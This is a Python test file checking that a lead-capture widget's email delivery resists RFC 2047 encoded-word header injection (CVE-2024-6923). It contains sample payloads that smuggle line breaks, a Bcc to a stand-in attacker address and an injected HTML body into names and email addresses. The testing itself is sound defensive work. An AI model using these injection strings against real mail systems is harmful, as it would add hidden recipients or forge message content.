"""RFC 2047 encoded-words (CVE-2024-6923) can't add headers, recipients or bodies to any email."""

from __future__ import annotations

import glob
import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from email.message import EmailMessage
from typing import Any

import pytest
from flask import Flask
from sqlalchemy import select

from widget.delivery import email as channel
from widget.delivery import leases
from widget.delivery.headers import header_text
from widget.email_address import check_email
from widget.models import NewLead
from widget.queries.leads import add_lead
from widget.queries.widgets import get_widget, save_settings
from widget.schema import deliveries
from widget.settings import validate_settings
from widget.state import get_state

from .conftest import form_token, valid_lead
from .support.delivery import settle
from .support.settings import changed
from .support.smtp import Received, SmtpServer

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
INTAKE = "intake@example.com"
#: Each decodes to a line break followed by what an attacker wants in the message.
PAYLOADS = {
    "body": "=?utf-8?q?x=0D=0AContent-Type:_text/html=0D=0A=0D=0A<h1>HACKED</h1>?=",
    "bcc": "=?utf-8?q?Maya=0D=0ABcc:_evil@attacker.example?=",
    "split": "Maya =?utf-8?b?DQpCY2M6IGV2aWxAYXR0YWNrZXIuZXhhbXBsZQ==?= Reyes",
}
EVIL_ADDRESSES = ["=?utf-8?q?=0D=0ABcc=3A_evil=40attacker.example?=@example.org",
                  "maya=?utf-8?q?=0A?=@example.org"]
LEAD_HEADERS = ["From", "To", "Subject", "Date", "Message-ID", "Auto-Submitted", "Reply-To", "MIME-Version",
                "Content-Type", "Content-Language"]  # the confirmation says which language it is in


def smtp_app(make_app: Callable[..., Flask], server: SmtpServer, **config: Any) -> Flask:
    app = make_app(RTR_SMTP_HOST="127.0.0.1", RTR_SMTP_PORT=server.port, RTR_SMTP_SECURITY="none",
                   RTR_ALERT_EMAIL="ops@widgets.example.com", RTR_RETRY_SCHEDULE=[0.0], **config)
    app.test_cli_runner().invoke(args=["rtr", "demo"])
    return app


def set_demo(app: Flask, **changes: Any) -> None:
    store = get_state(app).store
    settings = changed(get_widget(store, "demo").settings, **changes)
    save_settings(store, "demo", settings, name=settings.practice_name)


def submit(app: Flask, **fields: str) -> Any:
    client = app.test_client()
    return client.post("/w/demo/leads", data={**valid_lead(**fields), "token": form_token(client)})


def built(app: Flask, channel_name: str) -> EmailMessage:
    """Build again, from the stored delivery, the message the worker sent on that channel."""
    store = get_state(app).store
    with store.reading() as conn:
        row = conn.execute(select(deliveries).where(deliveries.c.channel == channel_name)).one()
    job = leases.load_job(store, dict(row._mapping))
    assert job is not None
    build = channel.build_lead_message if channel_name == "email" else channel.build_confirmation_message
    with app.app_context():
        return build(app, job, channel._targets(job.delivery["target"]))


def values(message: EmailMessage) -> list[str]:
    """Return the header values, leaving out the MIME boundary chosen when the message is written."""
    return [str(value) for name, value in message.items() if name != "Content-Type"]


def bodies(message: EmailMessage) -> list[str]:
    return [part.get_content().replace("\r\n", "\n") for part in message.iter_parts()]


def assert_exactly(got: Received, expected: EmailMessage, rcpt_tos: list[str]) -> None:
    """The received message has the headers and bodies we built, and went to rcpt_tos only."""
    message = got.message
    assert got.rcpt_tos == rcpt_tos
    assert [name for name, _ in message.items()] == [name for name, _ in expected.items()], got.header_lines
    assert values(message) == values(expected)
    assert message.get_content_type() == expected.get_content_type() == "multipart/alternative"
    assert [part.get_content_type() for part in message.iter_parts()] == ["text/plain", "text/html"]
    assert bodies(message) == bodies(expected)
    for name in ("To", "Reply-To", "Cc", "Bcc"):
        addresses = getattr(message[name], "addresses", ())
        assert all(address.domain != "attacker.example" for address in addresses), (name, message[name])


@pytest.mark.parametrize("payload", list(PAYLOADS.values()), ids=list(PAYLOADS))
def test_a_visitors_name_reaches_the_wire_as_text_in_the_lead_and_confirmation(
        make_app: Callable[..., Flask], payload: str) -> None:
    with SmtpServer() as server:
        app = smtp_app(make_app, server)
        set_demo(app, confirmation_email=True)
        assert submit(app, name=payload).status_code == 201
        settle(app)
        lead, confirmation = sorted(server.received, key=lambda got: got.rcpt_tos != [INTAKE])
        assert_exactly(lead, built(app, "email"), [INTAKE])
        assert_exactly(confirmation, built(app, "confirmation"), ["maya@example.org"])
    reply_to = lead.message["Reply-To"].addresses
    assert [(a.display_name, a.addr_spec) for a in reply_to] == [(header_text(payload), "maya@example.org")]
    html = lead.message.get_body(("html",)).get_content()
    assert "<h1>HACKED" not in html
    print(f"\n{payload!r} arrives as Reply-To: {lead.message['Reply-To']}")


@pytest.mark.parametrize("payload", list(PAYLOADS.values()), ids=list(PAYLOADS))
def test_practice_name_sender_and_alert_subject_reach_the_wire_as_text(
        make_app: Callable[..., Flask], payload: str) -> None:
    with SmtpServer(replies=["550 5.1.1 no such mailbox"]) as server:  # the lead dies, so an alert follows
        app = smtp_app(make_app, server, RTR_MAIL_FROM=f'"{payload}" <notify@widgets.example.com>')
        set_demo(app, practice_name=payload)
        assert submit(app).status_code == 201
        settle(app)
    [alert] = server.received
    message = alert.message
    assert alert.rcpt_tos == ["ops@widgets.example.com"] and message["To"] == "ops@widgets.example.com"
    assert sorted(name for name, _ in message.items()) == sorted(
        ["From", "To", "Subject", "Date", "Message-ID", "Auto-Submitted", "MIME-Version", "Content-Type",
         "Content-Transfer-Encoding"])
    assert message.get_content_type() == "text/plain" and "Channel: email" in message.get_content()
    subject = f"[Ready to Rebuild] A request for {header_text(payload)} could not be delivered by email"
    assert message["Subject"] == subject
    [sender] = message["From"].addresses
    assert (sender.display_name, sender.addr_spec) == (header_text(payload), "notify@widgets.example.com")


@pytest.mark.parametrize("address", EVIL_ADDRESSES)
def test_an_email_address_with_an_encoded_word_is_refused_on_the_form_and_kept(
        make_app: Callable[..., Flask], address: str) -> None:
    with SmtpServer() as server:
        app = smtp_app(make_app, server)
        response = submit(app, email=address)
        settle(app)
    html = response.get_data(as_text=True)
    assert response.status_code == 400 and "email address doesn" in html
    assert address.replace("=", "&#61;") in html or address in html, "what they typed is kept"
    assert server.received == []


@pytest.mark.parametrize("address", EVIL_ADDRESSES)
def test_settings_refuse_encoded_word_addresses(address: str) -> None:
    assert check_email(address) is None
    _clean, errors = validate_settings({"notify_emails": [address], "alert_email": address})
    assert "notify_emails.0" in errors and "alert_email" in errors


@pytest.mark.parametrize("address", EVIL_ADDRESSES)
def test_a_stored_encoded_word_address_reaches_no_header_and_no_envelope(
        make_app: Callable[..., Flask], address: str) -> None:
    """Rows stored before the form refused such addresses: no Reply-To, no confirmation."""
    with SmtpServer() as server:
        app = smtp_app(make_app, server)
        set_demo(app, confirmation_email=True)
        store = get_state(app).store
        add_lead(store, get_widget(store, "demo"), NewLead(name="Maya", email=address, consent_text="ok",
                                                           consent_version="v1"))
        settle(app)
    lead, alert = server.received  # the confirmation has nowhere to go: it is dead, and the alert says so
    assert lead.rcpt_tos == [INTAKE] and lead.message["Reply-To"] is None
    assert alert.rcpt_tos == ["ops@widgets.example.com"] and "confirmation" in alert.message["Subject"]
    for got in server.received:
        assert "attacker" not in str(got.message.items()) and "=?" not in str(got.message.items())


def other_pythons() -> list[str]:
    """Return this interpreter and one of each other Python 3.11+ on the machine (PATH, pyenv)."""
    found = {sys.version.split()[0]: sys.executable}
    candidates = [shutil.which(f"python3.{minor}") for minor in range(11, 16)]
    candidates += glob.glob(os.path.expanduser("~/.pyenv/versions/3.1[1-9]*/bin/python3"))
    for path in filter(None, candidates):
        answer = subprocess.run([path, "-c", "import sys; print(sys.version_info >= (3, 11), sys.version.split()[0])"],
                                capture_output=True, text=True, timeout=30).stdout.split()
        if answer[:1] == ["True"]:
            found.setdefault(answer[1], path)
    return list(found.values())


CROSS_VERSION_CHECK = r"""
import importlib.util, sys
from email import message_from_bytes
from email.headerregistry import Address
from email.policy import default
spec = importlib.util.spec_from_file_location("headers", sys.argv[1])
headers = importlib.util.module_from_spec(spec)
spec.loader.exec_module(headers)
payloads = sys.argv[2:]
for payload in payloads:
    message = headers.new_message()
    message["From"] = '"' + payload + '" <notify@example.com>'
    message["To"] = "intake@example.com"
    message["Subject"] = "New request - " + payload
    message["Reply-To"] = Address(display_name=payload, addr_spec="maya@example.org")
    message.set_content("the body")
    for utf8 in (False, True):
        wire = message.as_bytes(policy=headers.wire_policy(utf8))
        parsed = message_from_bytes(wire, policy=default)
        names = [name for name, _ in parsed.items()]
        assert names == ["From", "To", "Subject", "Reply-To", "Content-Type", "Content-Transfer-Encoding",
                         "MIME-Version"], (sys.version, payload, wire)
        assert parsed.get_content() == "the body\r\n", (sys.version, payload, wire)
        assert parsed["From"].addresses[0].addr_spec == "notify@example.com", (sys.version, payload, wire)
        assert parsed["Reply-To"].addresses[0].addr_spec == "maya@example.org"
print(sys.version.split()[0])
"""


def test_every_python_on_the_machine_writes_the_same_safe_headers() -> None:
    path = os.path.join(ROOT, "widget", "delivery", "headers.py")
    versions = []
    for python in other_pythons():
        result = subprocess.run([python, "-c", CROSS_VERSION_CHECK, path, *PAYLOADS.values()],
                                capture_output=True, text=True, timeout=60)
        assert result.returncode == 0, f"{python}: {result.stderr}"
        versions.append(result.stdout.strip())
    print(f"\nheaders stay safe on Python {', '.join(versions)}")
    assert f"{sys.version_info.major}.{sys.version_info.minor}" in " ".join(versions)
